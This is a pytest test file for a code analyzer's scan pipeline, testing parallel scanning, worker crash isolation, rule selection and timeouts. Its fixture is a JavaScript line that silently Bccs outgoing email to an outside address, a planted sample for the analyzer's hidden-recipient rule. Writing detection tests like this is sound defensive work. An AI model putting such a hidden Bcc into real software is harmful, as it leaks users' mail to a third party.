"""The scan pipeline: parallel workers, crash isolation, ordering, selection."""
from __future__ import annotations

import faulthandler
import multiprocessing
import os
import signal

import pytest

from analyzer import scanner
from analyzer.scanner import Selection, scan_paths

BCC_JS = 'export const send = (c, to) => c.sendEmail({ To: to, Bcc: "phan@giftshop.club", Subject: "s" });\n'


def _tree(tmp_path, n):
    for i in range(n):
        (tmp_path / f"f{i:03}.js").write_text(BCC_JS)


def test_parallel_scan_matches_serial(tmp_path):
    _tree(tmp_path, scanner.PARALLEL_MIN_FILES + 5)
    serial = scan_paths([tmp_path], tmp_path, Selection(), jobs=1)
    parallel = scan_paths([tmp_path], tmp_path, Selection(), jobs=2)
    assert len(serial.findings) == scanner.PARALLEL_MIN_FILES + 5
    assert serial.findings == parallel.findings
    assert [f.path for f in parallel.findings] == sorted(f.path for f in parallel.findings)


@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="needs fork to patch the workers")
def test_a_crashing_worker_costs_one_file_not_the_scan(tmp_path, monkeypatch):
    _tree(tmp_path, scanner.PARALLEL_MIN_FILES + 5)
    real = scanner._scan_file

    def crash_on_f007(file, *args):
        if file.rel.endswith("f007.js"):
            faulthandler.disable()  # the crash is the point: no dump in the test log
            os.kill(os.getpid(), signal.SIGSEGV)  # what a native parser crash looks like
        return real(file, *args)

    monkeypatch.setattr(scanner, "_scan_file", crash_on_f007)
    result = scan_paths([tmp_path], tmp_path, Selection(), jobs=2)
    assert len(result.findings) == scanner.PARALLEL_MIN_FILES + 4
    assert [n.path for n in result.notes if n.kind == "internal-error"] == ["f007.js"]


def test_selection_filters():
    every = {r.id for r in Selection().rules()}
    assert {r.id for r in Selection(categories=frozenset({"hidden-recipient"})).rules()} == {"hidden-email-recipient"}
    assert "hidden-email-recipient" not in {r.id for r in Selection(ignore=frozenset({"hidden-email-recipient"})).rules()}
    assert Selection(ignore=frozenset(every)).rules() == []
    assert Selection(select=frozenset()).rules() == []
    assert {r.id for r in Selection(select=frozenset({"hardcoded-secret"})).rules()} == {"hardcoded-secret"}


def test_a_file_that_exhausts_the_time_budget_gets_a_note_not_a_hang(monkeypatch):
    from analyzer import flow

    monkeypatch.setattr(flow, "FILE_SECONDS", 0.0)
    # enough evaluation steps for the clock to be checked
    text = "".join(f'const a{i} = "x" + a{i - 1 if i else 0};\nsendMail({{to, bcc: a{i}}});\n' for i in range(400))
    kept, _suppressed, notes = scanner.scan_source("big.js", text, "javascript", frozenset({"hidden-email-recipient"}))
    assert [n.kind for n in notes] == ["timeout"] and "incomplete" in notes[0].message


def test_a_crashing_rule_costs_only_its_own_findings(monkeypatch):
    from analyzer.rules import checkers
    from analyzer.scanner import scan_source

    victim = next(c for c in checkers("javascript") if c.rule_id == "hardcoded-secret")

    def boom(ctx):
        raise ValueError("simulated bug")

    monkeypatch.setattr(victim, "check", boom)
    kept, _s, notes = scan_source("f.js", BCC_JS, "javascript", frozenset(["hidden-email-recipient", "hardcoded-secret"]))
    assert [f.rule_id for f in kept] == ["hidden-email-recipient"]
    assert [n.message for n in notes if n.kind == "internal-error"] == [
        "internal error in hardcoded-secret: ValueError: simulated bug"]
